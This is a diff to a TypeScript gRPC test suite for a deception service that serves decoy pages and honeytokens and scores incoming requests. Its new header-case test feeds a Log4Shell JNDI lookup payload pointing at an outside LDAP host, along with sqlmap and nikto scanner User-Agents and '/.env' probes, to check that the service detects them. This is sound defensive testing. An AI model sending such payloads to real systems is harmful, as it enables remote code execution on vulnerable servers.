@@ -81,6 +81,23 @@ describe('camouflage service over gRPC', function () {
     );
   const stats = (client: CamouflageServiceClient, tier: ThreatTier): Call<GetBanditStatsResponse> =>
     new Promise((resolve) => client.getBanditStats({ tier }, bearer(testKeys.camouflage), (error, response) => resolve({ error, response })));
+  /** Registers a minimal attack-tier decoy `id` through `client`; resolves with the call's error (null when it succeeded). */
+  const registerPanel = (client: CamouflageServiceClient, id: string) =>
+    new Promise<unknown>((resolve) =>
+      client.registerDecoy(
+        { decoy: { id, name: 'Fake panel', kind: 'admin_login', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentType: 'text/html', contentTemplate: '<form></form>', carriesHoneytoken: false, carriesCredentials: false, builtin: false, createdAt: undefined, status: 0, headers: {} }, idempotencyKey: '' },
+        bearer(testKeys.admin),
+        (error) => resolve(error),
+      ),
+    );
+  /** A honeytoken some attack-tier decision of `client` served ('' if thirty decisions served none). */
+  const mintedToken = async (client: CamouflageServiceClient) => {
+    let token = '';
+    for (let i = 0; i < 30 && token === ''; i++) {
+      token = (await assess(client, request({ path: '/.env', userAgent: 'nikto/2.5.0', headers: {} }))).response!.honeytoken;
+    }
+    return token;
+  };
 
   before(async () => {
     // Two replicas on one Redis, as in production.
@@ -135,11 +152,7 @@ describe('camouflage service over gRPC', function () {
 
   // A honeytoken served by one replica comes back in a request to the other: level 10, alert counted.
   it('detects a honeytoken minted earlier, across replicas', async () => {
-    let token = '';
-    for (let i = 0; i < 30 && token === ''; i++) {
-      const { response } = await assess(a, request({ path: '/.env', userAgent: 'nikto/2.5.0', headers: {} }));
-      token = response!.honeytoken;
-    }
+    const token = await mintedToken(a);
     expect(token, 'some attack-tier decision served a honeytoken').to.not.equal('');
     const { response } = await assess(b, request({ path: '/api/login', headers: { ...BROWSER_HEADERS, authorization: `Bearer ${token}` } }));
     expect(response!.threatLevel).to.equal(10);
@@ -147,6 +160,35 @@ describe('camouflage service over gRPC', function () {
     const metrics = await scrapeMetrics(second);
     expect(metricSamples(metrics, 'camouflage_honeytoken_alerts_total').some((sample) => sample.value >= 1)).to.equal(true);
     expect(metrics).not.to.include(token);
+  });
+
+  // HTTP header names are case-insensitive, so "X-Api-Version" and "x-api-version" are one field: a harmless twin
+  // differing only in case neither hides the other's payload, scanner User-Agent or honeytoken, and the map's order
+  // (which protobuf leaves undefined) does not change the verdict.
+  it('scores every value of headers whose names differ only in case, in any order', async () => {
+    const both = async (hostile: [string, string], harmless: [string, string], overrides: Partial<AssessRequest> = {}) => {
+      const scored = [];
+      for (const pair of [[hostile, harmless], [harmless, hostile]]) {
+        const { error, response } = await assess(a, request({ headers: { ...BROWSER_HEADERS, ...Object.fromEntries(pair) }, ...overrides }));
+        expect(error).to.equal(null);
+        scored.push(response!);
+      }
+      expect(scored[1]!.threatLevel).to.equal(scored[0]!.threatLevel);
+      expect(scored[1]!.signals).to.deep.equal(scored[0]!.signals);
+      return scored[0]!;
+    };
+    const jndi = await both(['x-api-version', '${jndi:ldap://198.51.100.9/a}'], ['X-Api-Version', '1']);
+    expect(jndi.signals.map((s) => s.name)).to.include('log4shell-jndi');
+    expect(jndi.threatLevel).to.be.at.least(9);
+    // No user_agent field: the header is the User-Agent.
+    const scanner = await both(['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'], ['User-Agent', BROWSER_UA], { userAgent: '' });
+    expect(scanner.signals.map((s) => s.name)).to.include('scanner-user-agent');
+
+    const token = await mintedToken(a);
+    expect(token, 'some attack-tier decision served a honeytoken').to.not.equal('');
+    const replayed = await both(['authorization', `Bearer ${token}`], ['Authorization', 'Bearer 0f3c9a'], { path: '/api/login' });
+    expect(replayed.honeytokenTriggered).to.equal(true);
+    expect(replayed.threatLevel).to.equal(10);
   });
 
   // An outcome recorded on one replica is visible in the other's bandit statistics; a second outcome is refused.
@@ -215,6 +257,52 @@ describe('camouflage service over gRPC', function () {
       expect(await dumpPrefix(redis, prefix)).to.deep.equal(before);
     } finally {
       await log.close();
+      await redis.quit();
+    }
+  });
+
+  // An outcome is credited to the arm its decision recorded, and answered with that arm, even on a replica whose catalog
+  // predates the decoy (registered through the other replica after both loaded theirs). A decoy gone from Redis since
+  // its decision still has the outcome recorded and counted on its arm, without an error; no arm is answered then.
+  it('answers an outcome with its arm when the decoy is newer than the replica catalog', async () => {
+    const ownPrefix = `${prefix}late-decoy:`;
+    const started: RunningService[] = [];
+    const clients: CamouflageServiceClient[] = [];
+    const replica = async () => {
+      started.push(await startTestService(camouflageService, { CAMOUFLAGE_REDIS_PREFIX: ownPrefix, MIGRATE_ON_START: 'false' }));
+      clients.push(new CamouflageServiceClient(address(started[started.length - 1]!), insecure));
+      return clients[clients.length - 1]!;
+    };
+    const redis = connectTestRedis();
+    try {
+      const [deciding, recording] = [await replica(), await replica()];
+      const id = `late-${randomUUID().slice(0, 8)}`;
+      expect(await registerPanel(deciding, id)).to.equal(null);
+      // Without rewards UCB1 plays the least-pulled arms first: every arm of the tier once per round of ten.
+      const served: AssessResponse[] = [];
+      for (let i = 0; i < 60 && served.length < 2; i++) {
+        const decided = (await assess(deciding, request({ path: '/.env', userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', headers: {} }))).response!;
+        if (decided.decoy!.id === id) served.push(decided);
+      }
+      expect(served, `decoy ${id} served twice`).to.have.length(2);
+
+      const recorded = await outcome(recording, served[0]!.decisionId, 5, 60);
+      expect(recorded.error).to.equal(null);
+      const arm = (await stats(deciding, ThreatTier.THREAT_TIER_ATTACK)).response!.arms.find((candidate) => candidate.decoyId === id);
+      expect(recorded.response!.arm).to.deep.equal(arm);
+      expect(arm!.rewardSum).to.be.closeTo(recorded.response!.reward, 1e-6).and.greaterThan(0);
+
+      // Gone: removed from Redis (as a restore from an older backup would), seen by a replica started after that.
+      await redis.hdel(`${ownPrefix}decoys`, id);
+      await redis.hincrby(`${ownPrefix}decoys:meta`, 'version', 1);
+      const gone = await outcome(await replica(), served[1]!.decisionId, 5, 60);
+      expect(gone.error).to.equal(null);
+      expect(gone.response!.reward).to.equal(recorded.response!.reward);
+      expect(gone.response!.arm).to.equal(undefined);
+      expect(await redis.hget(`${ownPrefix}bandit:attack`, `${id}:o`)).to.equal('2');
+    } finally {
+      for (const client of clients) client.close();
+      for (const service of started) await service.shutdown();
       await redis.quit();
     }
   });
@@ -595,14 +683,7 @@ describe('camouflage service over gRPC', function () {
       expect(benign.tier).to.equal(ThreatTier.THREAT_TIER_BENIGN);
       expect(benign.selection!.eligibleArms).to.equal(await listed(ThreatTier.THREAT_TIER_BENIGN));
 
-      const registered = await new Promise<unknown>((resolve) =>
-        client.registerDecoy(
-          { decoy: { id: `arm-${randomUUID().slice(0, 8)}`, name: 'Fake panel', kind: 'admin_login', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentType: 'text/html', contentTemplate: '<form></form>', carriesHoneytoken: false, carriesCredentials: false, builtin: false, createdAt: undefined, status: 0, headers: {} }, idempotencyKey: '' },
-          bearer(testKeys.admin),
-          (error) => resolve(error),
-        ),
-      );
-      expect(registered).to.equal(null);
+      expect(await registerPanel(client, `arm-${randomUUID().slice(0, 8)}`)).to.equal(null);
       expect((await assess(client, scanner())).response!.selection!.eligibleArms).to.equal(attackArms + 1);
       // The stream answers with the same selection info.
       const { answers, ended } = assessStream(client, [{ requestId: 'arms', request: scanner() }]);
@@ -617,18 +698,10 @@ describe('camouflage service over gRPC', function () {
   // The engine's own reasons reach the client as they are thrown: a second registration of an id (custom or
   // built in) is ALREADY_EXISTS / DECOY_ALREADY_EXISTS naming decoy.id, the proto path, with the id in ErrorInfo.
   it('refuses a duplicate decoy with DECOY_ALREADY_EXISTS on decoy.id', async () => {
-    const register = (id: string) =>
-      new Promise<unknown>((resolve) =>
-        a.registerDecoy(
-          { decoy: { id, name: 'Fake panel', kind: 'admin_login', tiers: [ThreatTier.THREAT_TIER_ATTACK], contentType: 'text/html', contentTemplate: '<form></form>', carriesHoneytoken: false, carriesCredentials: false, builtin: false, createdAt: undefined, status: 0, headers: {} }, idempotencyKey: '' },
-          bearer(testKeys.admin),
-          (error) => resolve(error),
-        ),
-      );
     const id = `dup-${randomUUID().slice(0, 8)}`;
-    expect(await register(id)).to.equal(null);
+    expect(await registerPanel(a, id)).to.equal(null);
     for (const taken of [id, 'nginx-404']) {
-      const details = errorDetails(await register(taken));
+      const details = errorDetails(await registerPanel(a, taken));
       expect(details, taken).to.deep.include({ code: grpcStatus.ALREADY_EXISTS, reason: 'DECOY_ALREADY_EXISTS' });
       expect(details?.fieldViolations.map((v) => v.field)).to.deep.equal(['decoy.id']);
       expect(details?.metadata).to.deep.equal({ decoyId: taken, field: 'decoy.id' });
